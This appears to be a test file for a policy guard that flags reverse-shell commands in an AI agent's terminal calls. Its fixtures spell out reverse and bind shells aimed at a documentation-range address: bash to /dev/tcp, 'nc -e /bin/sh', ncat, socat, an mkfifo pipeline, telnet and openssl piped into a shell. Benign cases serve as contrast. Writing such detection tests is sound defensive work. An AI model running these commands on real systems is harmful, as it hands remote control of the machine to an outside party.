package opafence.guards.reverse_shell_test

import data.opafence.guards.reverse_shell as rs
import data.opafence.test.fixtures as f

tcp := "/dev/tcp/198.51.100.7/4444"

redir(op, fd, raw, mode) := {"op": op, "fd": fd, "raw": raw, "path": raw, "mode": mode}

with_redirects(argv, rs_) := f.shx(argv, {"redirects": rs_})

block := {"deny": ["REVERSE_SHELL"]}

granted(commands) := f.task([{"id": "g1", "class": "EXECUTION", "capability": "run_command", "evidence": "x", "commands": commands}])

code_facts(calls, network) := {
	"language": "python", "opaque": false, "opaque_reasons": [], "imports": [], "calls": calls,
	"tool_calls": [], "network": network,
}

cases := [
	{
		"name": "bash -i to /dev/tcp",
		"input": f.terminal([with_redirects(["bash", "-i"], [redir(">&", 1, tcp, "write"), redir(">&", 0, "1", "dup")])]),
		"want": block,
	},
	{
		"name": "exec fd then sh on it",
		"input": f.terminal([
			with_redirects(["exec"], [redir("<>", 196, tcp, "write")]),
			with_redirects(["sh"], [redir("<&", 0, "196", "dup"), redir(">&", 1, "196", "dup")]),
		]),
		"want": block,
	},
	{
		"name": "interactive shell on fd 3",
		"input": f.terminal([f.shx(["/bin/sh", "-i"], {"name": "sh", "redirects": [redir("<&", 0, "3", "dup"), redir(">&", 1, "3", "dup")]})]),
		"want": block,
	},
	{
		"name": "commands read from /dev/tcp",
		"input": f.terminal([f.shx(["$l"], {"dynamic": true, "redirects": [redir("<", 0, tcp, "read")]})]),
		"want": block,
	},
	{"name": "nc -e", "input": f.terminal([f.sh(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])]), "want": block},
	{"name": "ncat --sh-exec", "input": f.terminal([f.sh(["ncat", "198.51.100.7", "4444", "--sh-exec", "sh -i"])]), "want": block},
	{"name": "socat exec", "input": f.terminal([f.sh(["socat", "tcp-connect:198.51.100.7:4444", "exec:bash -li,pty"])]), "want": block},
	{"name": "socat bind shell", "input": f.terminal([f.sh(["socat", "TCP-LISTEN:4444,reuseaddr,fork", "EXEC:/bin/sh"])]), "want": block},
	{
		"name": "mkfifo pipeline",
		"input": f.terminal([
			f.shx(["cat", "/tmp/f"], {"context": "pipeline"}),
			f.shx(["sh", "-i"], {"context": "pipeline", "pipe_from": "cat"}),
			f.shx(["nc", "198.51.100.7", "4444"], {"context": "pipeline", "pipe_from": "sh"}),
		]),
		"want": block,
	},
	{
		"name": "telnet into bash",
		"input": f.terminal([
			f.sh(["telnet", "198.51.100.7", "4444"]),
			f.shx(["/bin/bash"], {"name": "bash", "pipe_from": "telnet"}),
		]),
		"want": block,
	},
	{
		"name": "python dup2 pty",
		"input": f.call("terminal", {"command": "python3 -c ..."}, {"code": code_facts(["socket.socket", "os.dup2", "pty.spawn"], true), "shell": {"opaque": false, "opaque_reasons": [], "commands": [f.sh(["python3", "-c", "..."])]}}),
		"want": block,
	},
	{
		"name": "perl socket exec one-liner",
		"input": f.call("terminal", {"command": "perl -e ..."}, {"opaque": true, "opaque_reasons": ["perl_e", "inline_socket_exec"], "shell": {"opaque": true, "opaque_reasons": ["perl_e", "inline_socket_exec"], "commands": [f.sh(["perl", "-e", "..."])]}}),
		"want": block,
	},
	{
		"name": "nc -e granted",
		"input": f.terminal([f.sh(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])]),
		"task": granted(["nc -e /bin/sh 198.51.100.7 4444"]),
		"want": {"ask": ["REVERSE_SHELL"]},
	},
	{
		"name": "python3.11 on /dev/tcp",
		"input": f.terminal([f.shx(["python3.11", "-i"], {"redirects": [redir("<", 0, tcp, "read")]})]),
		"want": block,
	},
	{
		"name": "openssl s_client into sh",
		"input": f.terminal([f.sh(["openssl", "s_client", "-quiet", "-connect", "198.51.100.7:4444"]), f.shx(["sh"], {"pipe_from": "openssl"})]),
		"want": block,
	},
	{
		"name": "sh -i reading a fifo beside nc",
		"input": f.terminal([
			f.shx(["sh", "-i", "x"], {"redirects": [redir("<", 0, "/tmp/p", "read")]}),
			f.sh(["nc", "198.51.100.7", "4444"]),
		]),
		"want": block,
	},
	{
		"name": "dynamic command on a socket descriptor",
		"input": f.terminal([
			with_redirects(["exec"], [redir("<>", 5, tcp, "write")]),
			f.shx(["$line"], {"dynamic": true, "redirects": [redir(">&", 1, "5", "dup")]}),
		]),
		"want": block,
	},
	# ordinary
	{"name": "python -c with nc", "input": f.terminal([f.shx(["python3", "-c", "print(1)"], {"pipe_from": "nc"}), f.sh(["nc", "-l", "4444"])]), "want": {}},
	{"name": "openssl without s_client", "input": f.terminal([f.sh(["openssl", "version"]), f.shx(["sh"], {"pipe_from": "openssl"})]), "want": {}},
	{"name": "nc port check", "input": f.terminal([f.sh(["nc", "-zv", "db.example", "5432"])]), "want": {}},
	{"name": "cat from /dev/tcp", "input": f.terminal([with_redirects(["cat"], [redir("<", 0, tcp, "read")])]), "want": {}},
	{
		"name": "http by hand",
		"input": f.terminal([
			with_redirects(["exec"], [redir("<>", 3, tcp, "write")]),
			with_redirects(["echo", "GET / HTTP/1.0"], [redir(">&", 1, "3", "dup")]),
			with_redirects(["cat"], [redir("<&", 0, "3", "dup")]),
		]),
		"want": {},
	},
	{"name": "socat port forward", "input": f.terminal([f.sh(["socat", "TCP-LISTEN:8080,fork", "TCP:localhost:80"])]), "want": {}},
	{
		"name": "script piped to sh",
		"input": f.terminal([f.sh(["cat", "setup.sh"]), f.shx(["sh"], {"pipe_from": "cat"})]),
		"want": {},
	},
	{
		"name": "python sockets without dup2",
		"input": f.call("execute_code", {"code": "..."}, {"code": code_facts(["socket.socket", "s.connect"], true)}),
		"want": {},
	},
	{"name": "openssl s_client alone", "input": f.terminal([f.sh(["openssl", "s_client", "-connect", "example.com:443"])]), "want": {}},
]

results[c.name] := r if {
	some c in cases
	r := {
		"deny": {x.code | some x in rs.deny},
		"ask": {x.code | some x in rs.ask},
	} with input as c.input
		with data.tasks.t as object.get(c, "task", f.no_task)
}

test_reverse_shell_table if {
	fails := f.failures(cases, results)
	print(fails)
	fails == []
}
